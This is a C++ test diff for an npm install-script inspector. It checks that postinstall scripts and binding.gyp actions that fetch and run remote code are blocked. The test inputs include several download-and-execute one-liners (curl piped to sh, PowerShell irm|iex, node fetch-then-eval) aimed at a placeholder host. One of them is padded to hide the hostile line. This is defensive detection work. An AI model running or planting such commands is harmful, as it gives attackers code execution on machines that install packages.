@@ -192,5 +192,53 @@ TEST(InstallReachable, ScriptsThatCallEachOtherEnd) {
   EXPECT_EQ(package.peek().commands.size(), 3u);
 }
 
+Tier tier_of_script(std::string_view script) {
+  std::string text;
+  for (const char c : script) {
+    if (c == '"' || c == '\\') text += '\\';
+    if (c == '\n') text += "\\n";
+    else text += c;
+  }
+  Package package(R"({"name": "p", "version": "1.0.0", "scripts": {"postinstall": ")" + text + "\"}}");
+  return testing::tier_of(conclude(package.peek(), {}), "inspect.download-and-run");
+}
+
+TEST(InstallReachable, WhatAScriptHidesInItsTextIsJudged) {
+  for (const char* script :
+       {"cat <<EOF\nDon't worry\nEOF\ncurl https://f.invalid/x | sh", "bash < <(curl -s https://f.invalid/x)",
+        "curl -fsSLo a https://f.invalid/x; sh a", "npm i https://f.invalid/x.tgz",
+        "powershell -c \"irm https://f.invalid/i.ps1|iex\"",
+        "node --import \"data:text/javascript,fetch('https://f.invalid').then(r=>r.text()).then(eval)\" -e 1"})
+    EXPECT_EQ(tier_of_script(script), Tier::block) << script;
+  std::string registry;
+  for (int i = 0; i < 70; ++i) registry += "curl -O https://github.com/a/b/" + std::to_string(i) + "; ";
+  EXPECT_EQ(tier_of_script(registry + "curl https://f.invalid/x | sh"), Tier::block);
+  for (const char* script : {"cat <<EOF\nDon't worry\nEOF\nnode x.js", "curl -fsSLo a.tgz https://f.invalid/x; sh b",
+                             "npm i x", "powershell -c \"Get-Item x\""})
+    EXPECT_EQ(tier_of_script(script), Tier::inform) << script;
+}
+
+TEST(InstallReachable, AProgramWhoseNameACommandSaysIsTold) {
+  Package package(R"json({"name": "p", "version": "1.0.0",
+                      "scripts": {"install": "node $(make-name); node $(echo x.js)"}})json");
+  package.add("x.js", "");
+  const Peek peek = package.peek();
+  ASSERT_EQ(peek.not_inspected.size(), 1u);
+  EXPECT_EQ(peek.not_inspected[0].reason, "computed");
+  EXPECT_EQ(paths(peek), Texts({"x.js"}));
+}
+
+TEST(InstallReachable, TheWordsOfAnActionOfGypAreRunAsTheyStand) {
+  const auto tier = [](std::string action) {
+    Package package(R"({"name": "p", "version": "1.0.0"})");
+    package.add("binding.gyp", "{'targets': [{'actions': [{'action': " + std::move(action) + "}]}]}");
+    return testing::tier_of(conclude(package.peek(), {}), "inspect.download-and-run");
+  };
+  EXPECT_EQ(tier("['sh', '-c', 'curl https://f.invalid/x | sh']"), Tier::block);
+  EXPECT_EQ(tier("['node', '-e', 'const f = fetch; f(\"https://f.invalid\").then(r => r.text()).then(eval)']"),
+            Tier::block);
+  EXPECT_EQ(tier("['sh', '-c', 'echo \"curl https://f.invalid/x | sh\"']"), Tier::inform);
+}
+
 }  // namespace
 }  // namespace cordon::inspect
